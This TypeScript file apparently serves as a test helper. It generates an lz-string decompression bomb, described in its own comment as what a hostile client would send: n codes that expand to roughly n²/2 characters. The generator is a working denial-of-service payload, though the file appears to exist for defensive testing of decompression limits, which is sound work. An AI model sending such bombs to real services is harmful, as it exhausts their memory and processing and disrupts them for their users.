/** A decompression bomb, as a hostile client would send it. */

/**
 * A text of lz-string in which each code means "the previous phrase and its first character again": n codes decompress to
 * n²/2 characters.
 */
export const bombOf = (codes: number): string => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$'
  const bits: number[] = []
  const write = (value: number, count: number) => {
    for (let bit = 0; bit < count; bit++) bits.push((value >> bit) & 1)
  }
  write(0, 2)
  write('a'.charCodeAt(0), 8)
  let [codeBits, left] = [3, 4]
  for (let code = 4; code < codes; code++) {
    write(code, codeBits)
    left -= 1
    if (left === 0) [left, codeBits] = [2 ** codeBits, codeBits + 1]
  }
  write(2, codeBits)
  let text = ''
  for (let at = 0; at < bits.length; at += 6) {
    text += alphabet[bits.slice(at, at + 6).reduce((value, bit) => value * 2 + bit, 0)]
  }
  return text
}
